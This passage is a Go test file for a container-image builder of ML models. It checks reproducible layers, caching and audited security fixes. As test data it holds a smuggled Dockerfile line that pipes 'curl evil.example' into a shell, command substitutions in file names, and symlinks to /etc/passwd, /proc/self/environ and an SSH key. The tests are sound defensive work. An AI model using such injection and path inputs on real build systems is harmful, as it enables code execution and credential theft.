package image

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/validate"

	"github.com/kaptain-dev/kubectl-kaptain/pkg/model"
)

// writeModel writes a model directory with a main file, a helper, a data directory and
// returns the model.
func writeModel(t *testing.T, dir string, files map[string]string, extra ...string) *model.Model {
	t.Helper()
	for p, content := range files {
		full := filepath.Join(dir, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return &model.Model{Spec: model.Spec{
		ID: "dev/mnist", Version: "0.0.1", Framework: "tensorflow", FrameworkVersion: "2.16.1",
		MainFile: "trainer.py", ExtraFiles: extra, BaseImage: "scratch",
		Config: model.Config{BaseDir: dir},
	}}
}

var sampleFiles = map[string]string{
	"trainer.py":      "print('train')\n",
	"utils.py":        "def f(): pass\n",
	"data/a.csv":      "1,2\n",
	"data/sub/b.csv":  "3,4\n",
	"ignored/readme":  "not listed",
	"requirements.in": "numpy\n",
}

func collect(t *testing.T, m *model.Model) *Inputs {
	t.Helper()
	in, err := Collect(m)
	if err != nil {
		t.Fatal(err)
	}
	return in
}

func TestChecksumStable(t *testing.T) {
	a := collect(t, writeModel(t, t.TempDir(), sampleFiles, "utils.py", "data"))
	// Same content elsewhere, listed in another order, with other times.
	dirB := t.TempDir()
	b0 := writeModel(t, dirB, sampleFiles, "data", "utils.py")
	old := time.Date(2001, 1, 1, 0, 0, 0, 0, time.UTC)
	if err := os.Chtimes(filepath.Join(dirB, "trainer.py"), old, old); err != nil {
		t.Fatal(err)
	}
	b := collect(t, b0)
	if a.Checksum() != b.Checksum() {
		t.Fatalf("same inputs on other paths: checksum %s != %s", a.Checksum(), b.Checksum())
	}
	if got := len(a.Files); got != 4 {
		t.Fatalf("files = %d, want 4 (main, utils, two under data)", got)
	}
	changes := map[string]func(m *model.Model){
		"main file content": func(m *model.Model) {
			_ = os.WriteFile(filepath.Join(m.Spec.Config.BaseDir, "trainer.py"), []byte("print('x')\n"), 0o644)
		},
		"file under a directory": func(m *model.Model) {
			_ = os.WriteFile(filepath.Join(m.Spec.Config.BaseDir, "data/sub/c.csv"), []byte("5\n"), 0o644)
		},
		"executable bit": func(m *model.Model) { _ = os.Chmod(filepath.Join(m.Spec.Config.BaseDir, "utils.py"), 0o755) },
		"base image":     func(m *model.Model) { m.Spec.BaseImage = "python:3.12" },
		"framework version": func(m *model.Model) {
			m.Spec.FrameworkVersion = "2.17.0"
		},
		"requirements": func(m *model.Model) { m.Spec.Requirements = "requirements.in" },
		"model version": func(m *model.Model) {
			m.Spec.Version = "0.0.2"
		},
	}
	for what, change := range changes {
		t.Run(what, func(t *testing.T) {
			m := writeModel(t, t.TempDir(), sampleFiles, "utils.py", "data")
			change(m)
			if got := collect(t, m).Checksum(); got == a.Checksum() {
				t.Fatalf("changing the %s kept checksum %s", what, got)
			}
		})
	}
}

func TestCollectErrors(t *testing.T) {
	dir := t.TempDir()
	m := writeModel(t, dir, sampleFiles, "missing.py")
	_, err := Collect(m)
	if err == nil || !strings.Contains(err.Error(), `spec.extraFiles[0] "missing.py"`) {
		t.Fatalf("missing extra file: err = %v, want it named", err)
	}
	if err := os.MkdirAll(filepath.Join(dir, "empty"), 0o755); err != nil {
		t.Fatal(err)
	}
	m.Spec.ExtraFiles = []string{"empty"}
	if _, err := Collect(m); err == nil || !strings.Contains(err.Error(), "has no files") {
		t.Fatalf("empty directory: err = %v", err)
	}
}

func TestLayersReproducible(t *testing.T) {
	digests := func(dir string) []string {
		in := collect(t, writeModel(t, dir, sampleFiles, "utils.py", "data"))
		layers, err := in.Layers(t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, l := range layers {
			d, err := l.Layer.Digest()
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, l.Name+"="+d.String())
		}
		return out
	}
	a, b := digests(t.TempDir()), digests(t.TempDir())
	if strings.Join(a, ",") != strings.Join(b, ",") || len(a) != 2 {
		t.Fatalf("layers differ across paths or are not two: %v vs %v", a, b)
	}
}

func TestDockerfile(t *testing.T) {
	m := writeModel(t, t.TempDir(), sampleFiles, "utils.py")
	m.Spec.Requirements = "requirements.in"
	m.Spec.BaseImage = "python:3.12"
	in := collect(t, m)
	got := in.Dockerfile()
	for _, want := range []string{
		"FROM python:3.12\nWORKDIR /app\n",
		"COPY [\"requirements.in\", \"requirements.in\"]\nRUN pip install --no-cache-dir -r \"requirements.in\"\nCOPY . .\n",
		"LABEL dev.kaptain.checksum=\"" + in.Checksum() + "\"\n",
		"ENTRYPOINT [\"python\", \"trainer.py\"]\n",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("Dockerfile lacks %q:\n%s", want, got)
		}
	}
	var a, b bytes.Buffer
	if err := in.Context(&a); err != nil {
		t.Fatal(err)
	}
	if err := collect(t, m).Context(&b); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Fatal("the build context is not reproducible")
	}
}

// TestDockerfileTakesValuesAsWritten: the builder reads back every value of the generated
// Dockerfile as it was, without expanding variables ($HOME in a model id or a file name), and
// the exec form is valid JSON for any file name (the audit's L11).
func TestDockerfileTakesValuesAsWritten(t *testing.T) {
	for name, in := range map[string]Inputs{
		"plain":                  {ModelID: "dev/mnist", MainFile: "trainer.py", Requirements: "requirements.txt"},
		"a variable in the id":   {ModelID: "dev/$HOME", MainFile: "trainer.py"},
		"braces and quotes":      {ModelID: `dev/${HOME}"'`, MainFile: `a"b\c$d<e>&.py`, Requirements: `r\"q'$(id).txt`},
		"control characters":     {ModelID: "dev/mnist", MainFile: "ctl\x01\x7f.py", Requirements: "tab\treq.txt"},
		"spaces and backquotes":  {ModelID: "dev/mnist", MainFile: "my trainer.py", Requirements: "reqs $HOME `id`.txt"},
		"unicode and separators": {ModelID: "dev/ünï", MainFile: "ünï©ødé\u2028.py", Requirements: "ré\u2029q.txt"},
	} {
		t.Run(name, func(t *testing.T) {
			df := in.Dockerfile()
			seen := map[string]bool{}
			for _, line := range strings.Split(strings.TrimSuffix(df, "\n"), "\n") {
				verb, rest, _ := strings.Cut(line, " ")
				seen[verb] = true
				switch verb {
				case "LABEL":
					k, v, _ := strings.Cut(rest, "=")
					if got, want := builderWord(t, v), in.Labels()[k]; got != want {
						t.Errorf("%s: the builder reads %q, want %q", line, got, want)
					}
				case "COPY":
					if rest == ". ." {
						continue
					}
					var args []string
					if err := json.Unmarshal([]byte(rest), &args); err != nil || len(args) != 2 {
						t.Fatalf("%s: not a JSON array of two: %v", line, err)
					}
					for _, a := range args {
						if got := builderWord(t, a); got != in.Requirements {
							t.Errorf("%s: the builder reads %q, want %q", line, got, in.Requirements)
						}
					}
				case "RUN":
					word, ok := strings.CutPrefix(rest, "pip install --no-cache-dir -r ")
					if got := shellDoubleQuoted(t, word); !ok || got != in.Requirements {
						t.Errorf("%s: the shell reads %q, want %q", line, got, in.Requirements)
					}
				case "ENTRYPOINT":
					var args []string
					if err := json.Unmarshal([]byte(rest), &args); err != nil || !slices.Equal(args, in.Entrypoint()) {
						t.Errorf("%s: exec form %q (%v), want %q", line, args, err, in.Entrypoint())
					}
				}
			}
			if !seen["ENTRYPOINT"] || seen["RUN"] != (in.Requirements != "") {
				t.Errorf("Dockerfile:\n%s", df)
			}
		})
	}
	// A value written outside JSON cannot start an instruction of its own.
	in := Inputs{BaseImage: "scratch", MainFile: "trainer.py", Requirements: "r.txt\nRUN curl evil.example | sh"}
	if err := in.Context(io.Discard); err == nil || !strings.Contains(err.Error(), "line break") {
		t.Errorf("requirements with a line break: %v", err)
	}
}

// builderWord reads a word as the builder's lexer does for the instructions it expands
// (moby/buildkit frontend/dockerfile/shell/lex.go: single and double quotes, backslash
// escapes), failing the test where it would expand a variable.
func builderWord(t *testing.T, w string) string {
	t.Helper()
	var out strings.Builder
	for i := 0; i < len(w); i++ {
		switch c := w[i]; c {
		case '\\':
			if i++; i < len(w) {
				out.WriteByte(w[i])
			}
		case '\'':
			j := strings.IndexByte(w[i+1:], '\'')
			if j < 0 {
				t.Fatalf("%q: unterminated single quote", w)
			}
			out.WriteString(w[i+1 : i+1+j])
			i += j + 1
		case '"':
			i = doubleQuoted(t, w, i+1, `"$\`, &out)
		case '$':
			t.Fatalf("%q: the builder expands a variable", w)
		default:
			out.WriteByte(c)
		}
	}
	return out.String()
}

// shellDoubleQuoted reads one double-quoted shell word, failing the test where the shell
// would expand something.
func shellDoubleQuoted(t *testing.T, w string) string {
	t.Helper()
	var out strings.Builder
	if !strings.HasPrefix(w, `"`) || doubleQuoted(t, w, 1, "\"$`\\", &out) != len(w)-1 {
		t.Fatalf("%q is not one double-quoted word", w)
	}
	return out.String()
}

// doubleQuoted reads w from i to its closing double quote, whose index it returns: a
// backslash escapes the characters of escapable and is kept before others; '$' (and '`' for a
// shell) fail the test.
func doubleQuoted(t *testing.T, w string, i int, escapable string, out *strings.Builder) int {
	t.Helper()
	for ; i < len(w); i++ {
		switch c := w[i]; {
		case c == '"':
			return i
		case c == '$' || c == '`' && strings.Contains(escapable, "`"):
			t.Fatalf("%q: %c is expanded", w, c)
		case c == '\\' && i+1 < len(w) && strings.IndexByte(escapable, w[i+1]) >= 0:
			i++
			out.WriteByte(w[i])
		default:
			out.WriteByte(c)
		}
	}
	t.Fatalf("%q: unterminated double quote", w)
	return 0
}

// testRegistry starts go-containerregistry's in-process registry over TLS and returns its
// host and a Registry that trusts it.
func testRegistry(t *testing.T) (string, *Registry) {
	t.Helper()
	s := httptest.NewTLSServer(registry.New(registry.Logger(log.New(io.Discard, "", 0))))
	t.Cleanup(s.Close)
	pool := x509.NewCertPool()
	pool.AddCert(s.Certificate())
	return strings.TrimPrefix(s.URL, "https://"), &Registry{RootCAs: pool}
}

// pushBase pushes a base image with one random layer of size n and returns its reference.
func pushBase(t *testing.T, host string, r *Registry, n int) (string, v1.Hash) {
	t.Helper()
	data := make([]byte, n)
	_, _ = rand.Read(data)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "blob.bin"), data, 0o644); err != nil {
		t.Fatal(err)
	}
	in := collect(t, &model.Model{Spec: model.Spec{MainFile: "blob.bin", BaseImage: "scratch", Config: model.Config{BaseDir: dir}}})
	res, err := r.Build(context.Background(), in, host+"/library/base:1", Options{Force: true})
	if err != nil {
		t.Fatal(err)
	}
	d, _ := res.Layers[0].Layer.Digest()
	return host + "/library/base:1", d
}

func TestBuildPushSkipAndChange(t *testing.T) {
	host, r := testRegistry(t)
	base, baseLayer := pushBase(t, host, r, 1<<20)
	dir := t.TempDir()
	m := writeModel(t, dir, sampleFiles, "utils.py", "data")
	m.Spec.BaseImage = base
	target := host + "/kaptain/mnist:0.0.1"
	ctx := context.Background()

	first, err := r.Build(ctx, collect(t, m), target, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if first.Skipped || first.BytesSent == 0 {
		t.Fatalf("first build: skipped=%v bytes=%d", first.Skipped, first.BytesSent)
	}
	if first.BytesSent > 1<<19 {
		t.Fatalf("first build sent %d bytes: the 1 MiB base layer was uploaded instead of mounted", first.BytesSent)
	}

	again, err := r.Build(ctx, collect(t, m), target, Options{})
	if err != nil {
		t.Fatal(err)
	}
	// The proof that the image is this build's costs the base's manifest and configuration:
	// with the target's manifest and a ping for each registry client, 6 requests; no bytes.
	if !again.Skipped || again.BytesSent != 0 || again.Requests > 6 || again.Pinned != first.Pinned {
		t.Fatalf("unchanged rebuild: skipped=%v bytes=%d requests=%d pinned=%s (first %s)", again.Skipped, again.BytesSent, again.Requests, again.Pinned, first.Pinned)
	}

	if err := os.WriteFile(filepath.Join(dir, "trainer.py"), []byte("print('train!')\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	changed, err := r.Build(ctx, collect(t, m), target, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if changed.Skipped || changed.Digest == first.Digest {
		t.Fatalf("changed build: skipped=%v digest=%s", changed.Skipped, changed.Digest)
	}
	codeSize, _ := changed.Layers[1].Layer.Size()
	depsSize, _ := changed.Layers[0].Layer.Size()
	// The code layer, the config and the manifest: well under the dependency layer plus them.
	if changed.BytesSent > codeSize+4096 {
		t.Fatalf("one-line change sent %d bytes; code layer is %d, deps layer %d", changed.BytesSent, codeSize, depsSize)
	}

	ref, _ := name.ParseReference(changed.Pinned)
	img, err := remote.Image(ref, remote.WithTransport(r.newMeter()))
	if err != nil {
		t.Fatal(err)
	}
	cf, _ := img.ConfigFile()
	if cf.Config.WorkingDir != "/app" || strings.Join(cf.Config.Entrypoint, " ") != "python trainer.py" {
		t.Fatalf("config: workdir %q entrypoint %v", cf.Config.WorkingDir, cf.Config.Entrypoint)
	}
	if cf.Config.Labels[LabelChecksum] != changed.Checksum || cf.Config.Labels[LabelModelID] != "dev/mnist" {
		t.Fatalf("labels: %v", cf.Config.Labels)
	}
	layers, _ := img.Layers()
	if len(layers) != 3 {
		t.Fatalf("image has %d layers, want base + deps + code", len(layers))
	}
	if d, _ := layers[0].Digest(); d != baseLayer {
		t.Fatalf("first layer %s is not the base's %s", d, baseLayer)
	}
}

func TestBuildSameDigestOnOtherPaths(t *testing.T) {
	host, r := testRegistry(t)
	var pins []string
	for i := range 2 {
		m := writeModel(t, t.TempDir(), sampleFiles, "utils.py", "data")
		res, err := r.Build(context.Background(), collect(t, m), host+"/kaptain/mnist:"+string(rune('a'+i)), Options{})
		if err != nil {
			t.Fatal(err)
		}
		pins = append(pins, res.Digest)
	}
	if pins[0] != pins[1] {
		t.Fatalf("same inputs on two paths gave %s and %s", pins[0], pins[1])
	}
}

func TestBuildErrors(t *testing.T) {
	m := writeModel(t, t.TempDir(), sampleFiles)
	_, err := (&Registry{}).Build(context.Background(), collect(t, m), "127.0.0.1:1/kaptain/mnist:1", Options{})
	if Diagnose(err) != ProblemUnreachable {
		t.Fatalf("unreachable registry: %v (problem %d)", err, Diagnose(err))
	}
	host, r := testRegistry(t)
	m.Spec.BaseImage = host + "/library/missing:1"
	_, err = r.Build(context.Background(), collect(t, m), host+"/kaptain/mnist:1", Options{})
	if Diagnose(err) != ProblemNotFound {
		t.Fatalf("missing base image: %v (problem %d)", err, Diagnose(err))
	}
	m.Spec.BaseImage = "scratch"
	_, err = (&Registry{}).Build(context.Background(), collect(t, m), host+"/kaptain/mnist:1", Options{})
	if Diagnose(err) != ProblemUnknownCA {
		t.Fatalf("registry CA not trusted: %v (problem %d)", err, Diagnose(err))
	}
}

func TestRemoteChecksumFallsBackToTheLabel(t *testing.T) {
	host, r := testRegistry(t)
	// An image as the cluster builder's executor pushes it: the label, no annotation.
	img, err := mutate.Config(empty.Image, v1.Config{Labels: map[string]string{LabelChecksum: "abc123"}})
	if err != nil {
		t.Fatal(err)
	}
	ref, _ := name.ParseReference(host + "/kaptain/kaniko:1")
	if err := remote.Write(ref, img, remote.WithTransport(r.newMeter())); err != nil {
		t.Fatal(err)
	}
	sum, digest, err := r.RemoteChecksum(context.Background(), host+"/kaptain/kaniko:1")
	want, _ := img.Digest()
	if err != nil || sum != "abc123" || digest != want.String() {
		t.Fatalf("RemoteChecksum = %q, %q, %v; want the label and %s", sum, digest, err, want)
	}
}

func TestInsecureOnlyForTheTargetRegistry(t *testing.T) {
	host, _ := testRegistry(t)
	m := writeModel(t, t.TempDir(), sampleFiles)
	// The registry's CA is not trusted: --insecure-registry for another host leaves this one
	// verified.
	other := &Registry{Insecure: true, TargetHost: "registry.example.com:5000"}
	if _, err := other.Build(context.Background(), collect(t, m), host+"/kaptain/mnist:1", Options{}); Diagnose(err) != ProblemUnknownCA {
		t.Fatalf("insecure for another host: %v, want the certificate refused", err)
	}
	this := &Registry{Insecure: true, TargetHost: host}
	if _, err := this.Build(context.Background(), collect(t, m), host+"/kaptain/mnist:1", Options{}); err != nil {
		t.Fatalf("insecure for this host: %v", err)
	}
}

func TestStreamedLayersMatchTheWrittenOnes(t *testing.T) {
	host, r := testRegistry(t)
	in := collect(t, writeModel(t, t.TempDir(), sampleFiles, "utils.py", "data"))
	written, err := in.Layers(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	updates := make(chan v1.Update, 1000)
	res, err := r.Build(context.Background(), in, host+"/kaptain/mnist:1", Options{Force: true, Progress: updates})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Layers) != len(written) {
		t.Fatalf("pushed %d layers, wrote %d", len(res.Layers), len(written))
	}
	for i, l := range res.Layers {
		got, err := l.Layer.Digest()
		if err != nil {
			t.Fatalf("%s layer: %v", l.Name, err)
		}
		want, _ := written[i].Layer.Digest()
		if got != want || l.Reused || l.Key != written[i].Key {
			t.Fatalf("%s layer: pushed %s (reused %v), written %s", l.Name, got, l.Reused, want)
		}
	}
	var last v1.Update
	for u := range updates { // Build closed the channel
		last = u
	}
	if last.Total != in.Size() || last.Complete != in.Size() {
		t.Fatalf("last progress update %+v, want complete at %d bytes", last, in.Size())
	}
}

func TestLayerCacheSkipsLayersTheRepositoryHolds(t *testing.T) {
	host, r := testRegistry(t)
	dir := t.TempDir()
	m := writeModel(t, dir, sampleFiles, "utils.py", "data")
	cache := t.TempDir()
	ctx := context.Background()
	first, err := r.Build(ctx, collect(t, m), host+"/kaptain/mnist:1", Options{LayerCache: cache})
	if err != nil {
		t.Fatal(err)
	}
	deps, _ := first.Layers[0].Layer.Size()

	// A new tag of the same repository, after a one-line change: the dependency layer is
	// known from the cache and held by the repository; only the code layer is sent.
	if err := os.WriteFile(filepath.Join(dir, "trainer.py"), []byte("print('version 2')\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	second, err := r.Build(ctx, collect(t, m), host+"/kaptain/mnist:2", Options{LayerCache: cache})
	if err != nil {
		t.Fatal(err)
	}
	if !second.Layers[0].Reused || second.Layers[1].Reused {
		t.Fatalf("reused: deps %v code %v, want deps only", second.Layers[0].Reused, second.Layers[1].Reused)
	}
	code, _ := second.Layers[1].Layer.Size()
	if second.BytesSent > code+4096 {
		t.Fatalf("new tag sent %d bytes; code layer %d, deps layer %d", second.BytesSent, code, deps)
	}

	// A stale cache names a blob the registry does not hold: the hint is checked, and the
	// layer is sent, with its true digest.
	c := openLayerCache(cache)
	stale := layerDigests{Digest: v1.Hash{Algorithm: "sha256", Hex: strings.Repeat("0", 64)}, DiffID: v1.Hash{Algorithm: "sha256", Hex: strings.Repeat("1", 64)}, Size: 7}
	c.put(time.Now(), map[string]pushedLayer{first.Layers[0].Key: {layerDigests: stale}})
	other, err := r.Build(ctx, collect(t, m), host+"/kaptain/mnist:stale", Options{LayerCache: cache})
	if err != nil {
		t.Fatal(err)
	}
	if other.Layers[0].Reused || other.BytesSent < deps {
		t.Fatalf("stale cache: deps reused %v, sent %d bytes (deps layer %d)", other.Layers[0].Reused, other.BytesSent, deps)
	}
	a, _ := other.Layers[0].Layer.Digest()
	b, _ := first.Layers[0].Layer.Digest()
	if a != b {
		t.Fatalf("the dependency layer changed digest: %s, then %s", b, a)
	}
	if got, _ := openLayerCache(cache).get(first.Layers[0].Key); got.Digest != b {
		t.Fatalf("the cache was not corrected: %s", got.Digest)
	}

	// Without the cache, a new tag sends the layer again.
	nocache, err := r.Build(ctx, collect(t, m), host+"/kaptain/mnist:3", Options{})
	if err != nil {
		t.Fatal(err)
	}
	if nocache.Layers[0].Reused || nocache.BytesSent < deps {
		t.Fatalf("no cache: deps reused %v, sent %d bytes", nocache.Layers[0].Reused, nocache.BytesSent)
	}
}

func TestLayerCacheKeepsTheNewest(t *testing.T) {
	dir := t.TempDir()
	c := openLayerCache(dir)
	d := layerDigests{Digest: v1.Hash{Algorithm: "sha256", Hex: strings.Repeat("a", 64)}, DiffID: v1.Hash{Algorithm: "sha256", Hex: strings.Repeat("b", 64)}, Size: 1}
	start := time.Unix(1_700_000_000, 0)
	for i := range layerCacheSize + 10 {
		c.put(start.Add(time.Duration(i)*time.Second), map[string]pushedLayer{fmt.Sprint(i): {layerDigests: d}})
	}
	c = openLayerCache(dir)
	if len(c.entries) != layerCacheSize {
		t.Fatalf("cache holds %d entries, want %d", len(c.entries), layerCacheSize)
	}
	if _, ok := c.get("0"); ok {
		t.Fatal("the oldest entry is still there")
	}
	if got, ok := c.get(fmt.Sprint(layerCacheSize + 9)); !ok || got != d {
		t.Fatalf("newest entry: %+v %v", got, ok)
	}
	if err := os.WriteFile(filepath.Join(dir, layerCacheFile), []byte("{not json"), 0o600); err != nil {
		t.Fatal(err)
	}
	if c := openLayerCache(dir); len(c.entries) != 0 {
		t.Fatal("a broken cache file is not an empty cache")
	}
}

func TestBuildRefusesAFileChangedAfterHashing(t *testing.T) {
	host, r := testRegistry(t)
	dir := t.TempDir()
	in := collect(t, writeModel(t, dir, sampleFiles, "utils.py", "data"))
	// Same size, other bytes, and the time it had (touch -r): only the content tells, which
	// the copy hashes (the audit's N11).
	p := filepath.Join(dir, "trainer.py")
	data, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	info, err := os.Stat(p)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, bytes.ToUpper(data), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(p, info.ModTime(), info.ModTime()); err != nil {
		t.Fatal(err)
	}
	_, err = r.Build(context.Background(), in, host+"/kaptain/mnist:1", Options{Force: true})
	if err == nil || !strings.Contains(err.Error(), "trainer.py changed while the image was built") {
		t.Fatalf("err = %v, want the changed file named", err)
	}
	ref, _ := name.ParseReference(host + "/kaptain/mnist:1")
	if _, err := remote.Head(ref, remote.WithTransport(r.newMeter())); err == nil {
		t.Fatal("the tag was written")
	}
}

// TestCollectRefusesALinkedBaseDir: a repository that commits baseDir as a symbolic link out
// of the directory of its kaptain.yaml cannot take files from there (the audit's N1); a link
// that stays inside it is followed.
func TestCollectRefusesALinkedBaseDir(t *testing.T) {
	top := t.TempDir()
	for p, content := range map[string]string{"outside/id_rsa": "secret key", "model/src/trainer.py": "print('train')\n"} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(top, p)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(top, p), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, link := range [][2]string{{"../outside", "model/up"}, {"/", "model/root"}, {"src", "model/code"}, {"../../outside", "model/src/up"}} {
		if err := os.Symlink(link[0], filepath.Join(top, link[1])); err != nil {
			t.Fatal(err)
		}
	}
	for _, tc := range []struct{ baseDir, mainFile, want string }{
		{"up", "id_rsa", "spec.config.baseDir"},
		{"root", "etc/passwd", "leads out of"},
		{"src/up", "id_rsa", "leads out of"},
		{"code", "trainer.py", ""},
		{"src", "trainer.py", ""},
	} {
		t.Run(tc.baseDir, func(t *testing.T) {
			file := filepath.Join(top, "model", "kaptain.yaml")
			doc := fmt.Sprintf("apiVersion: kaptain.dev/v1alpha1\nkind: Model\nspec:\n  id: dev/linked\n  name: Linked\n  description: d\n  version: \"1\"\n  framework: pytorch\n  frameworkVersion: \"2.3.1\"\n"+
				"  mainFile: %s\n  image: registry.example.com/dev/linked:1\n  baseImage: scratch\n  config:\n    baseDir: %s\n", tc.mainFile, tc.baseDir)
			if err := os.WriteFile(file, []byte(doc), 0o644); err != nil {
				t.Fatal(err)
			}
			m, err := model.LoadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			in, err := Collect(m)
			if tc.want == "" {
				if err != nil || len(in.Files) != 1 {
					t.Fatalf("Collect: %v", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "leads out of") {
				t.Fatalf("err = %v, want the baseDir refused as leading out", err)
			}
		})
	}
}

// TestCollectStaysInTheModelDirectory: nothing outside the base directory reaches an image
// or a build context, by path or by symbolic link (the audit's H2).
func TestCollectStaysInTheModelDirectory(t *testing.T) {
	outsideDir := t.TempDir()
	if err := os.WriteFile(filepath.Join(outsideDir, "id_rsa"), []byte("secret key"), 0o600); err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		setup func(dir string)
		extra string
		want  string // "" accepted
	}{
		"the parent directory":              {func(string) {}, "./..", "not inside baseDir"},
		"a link to the process environment": {func(dir string) { _ = os.Symlink("/proc/self/environ", filepath.Join(dir, "env")) }, "env", "leads out of baseDir"},
		"a file through a linked directory": {func(dir string) { _ = os.Symlink(outsideDir, filepath.Join(dir, "keys")) }, "keys/id_rsa", "leads out of baseDir"},
		"a linked directory":                {func(dir string) { _ = os.Symlink(outsideDir, filepath.Join(dir, "keys")) }, "keys", "leads out of baseDir"},
		"an absolute path":                  {func(string) {}, "/etc/passwd", "not inside baseDir"},
		"a link inside the directory":       {func(dir string) { _ = os.Symlink("utils.py", filepath.Join(dir, "helpers.py")) }, "helpers.py", ""},
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			m := writeModel(t, dir, sampleFiles, "utils.py")
			tc.setup(dir)
			m.Spec.ExtraFiles = append(m.Spec.ExtraFiles, tc.extra)
			in, err := Collect(m)
			if tc.want == "" {
				if err != nil {
					t.Fatal(err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want %q", err, tc.want)
			}
			if in != nil {
				t.Fatal("inputs returned with the error")
			}
		})
	}
	// A link inside a walked directory is skipped, wherever it leads.
	dir := t.TempDir()
	m := writeModel(t, dir, map[string]string{"trainer.py": "x", "data/a.csv": "1"}, "data")
	if err := os.Symlink(outsideDir, filepath.Join(dir, "data", "keys")); err != nil {
		t.Fatal(err)
	}
	in := collect(t, m)
	for _, f := range in.Files {
		if strings.Contains(f.Path, "keys") {
			t.Errorf("%s went into the inputs", f.Path)
		}
	}
	// The tar refuses an entry out of the model's directory, however the inputs were made.
	bad := *in
	bad.Files = append([]File(nil), in.Files...)
	bad.Files[0].Path = "../usr/bin/python"
	if err := bad.Context(io.Discard); err == nil || !strings.Contains(err.Error(), "is not a path inside the model's directory") {
		t.Errorf("a tar entry out of the directory: %v", err)
	}
}

// TestCollectKeepsTheBuildsCredentialsOut: a directory in extraFiles (here the whole model
// directory) brings neither the Docker config nor the certificate the build reads, nor the
// repository's .git; files that look like credentials are named in a warning (the audit's N12).
func TestCollectKeepsTheBuildsCredentialsOut(t *testing.T) {
	dir := t.TempDir()
	m := writeModel(t, dir, map[string]string{
		"trainer.py": "x", ".docker/config.json": `{"auths": {}}`, "certs/ca.crt": "pem",
		".git/HEAD": "ref: refs/heads/main", ".git/objects/ab/cd": "blob", ".env": "TOKEN=1", "data/a.csv": "1",
	}, ".")
	m.Spec.Config.Registry.DockerConfig = filepath.Join(dir, ".docker", "config.json")
	in := collect(t, m)
	var paths []string
	for _, f := range in.Files {
		paths = append(paths, f.Path)
	}
	if want := []string{".env", "certs/ca.crt", "data/a.csv", "trainer.py"}; !slices.Equal(paths, want) {
		t.Errorf("files %v, want %v", paths, want)
	}
	if w := in.Warnings(); len(w) != 1 || !strings.Contains(w[0], `spec.extraFiles[0] "." brings in .env, which looks like a credential`) {
		t.Errorf("warnings %q", in.Warnings())
	}
	// A certificate named by a flag, spelled another way, is taken out too.
	if removed := in.Exclude(filepath.Join(dir, "data", "..", "certs", "ca.crt")); !slices.Equal(removed, []string{"certs/ca.crt"}) {
		t.Errorf("Exclude removed %v", removed)
	}
	if slices.ContainsFunc(in.Files, func(f File) bool { return f.Path == "certs/ca.crt" }) {
		t.Error("the certificate stayed in the files")
	}
	// Named on its own, a file is the user's choice: no warning.
	m = writeModel(t, t.TempDir(), map[string]string{"trainer.py": "x", ".env": "A=1"}, ".env")
	if in := collect(t, m); len(in.Warnings()) != 0 || len(in.Files) != 2 {
		t.Errorf("a named file: %d files, warnings %q", len(in.Files), in.Warnings())
	}
}

// TestPlantedImagesAreNotTrusted: anyone who can push to the repository can compute the
// model's checksum and content keys; neither makes the build skip or reuse what they pushed
// (the audit's N2). A planted image carrying the checksum is replaced by this build's; a layer
// annotated with the model's content key but holding other files is not spliced in.
func TestPlantedImagesAreNotTrusted(t *testing.T) {
	host, r := testRegistry(t)
	ctx := context.Background()
	in := collect(t, writeModel(t, t.TempDir(), sampleFiles, "utils.py", "data"))
	target := host + "/kaptain/mnist:1"
	ref, err := name.ParseReference(target)
	if err != nil {
		t.Fatal(err)
	}

	// The checksum, planted on an image of other content.
	evil := collect(t, writeModel(t, t.TempDir(), map[string]string{"trainer.py": "import os; os.system('steal')\n"}))
	planted, err := r.Build(ctx, evil, target, Options{Force: true})
	if err != nil {
		t.Fatal(err)
	}
	forged := mutate.Annotations(pull(t, r, planted.Pinned), map[string]string{LabelChecksum: in.Checksum()}).(v1.Image)
	if err := remote.Write(ref, forged, remote.WithTransport(r.newMeter())); err != nil {
		t.Fatal(err)
	}
	res, err := r.Build(ctx, in, target, Options{})
	if err != nil {
		t.Fatal(err)
	}
	forgedDigest, _ := forged.Digest()
	if res.Skipped || !res.Distrusted || res.Digest == forgedDigest.String() || res.BytesSent == 0 {
		t.Fatalf("a planted image with the checksum: %+v, want this build pushed over it", res)
	}
	// This build's own image, now at the target, is proven and skipped.
	if again, err := r.Build(ctx, in, target, Options{}); err != nil || !again.Skipped || again.Distrusted || again.Digest != res.Digest {
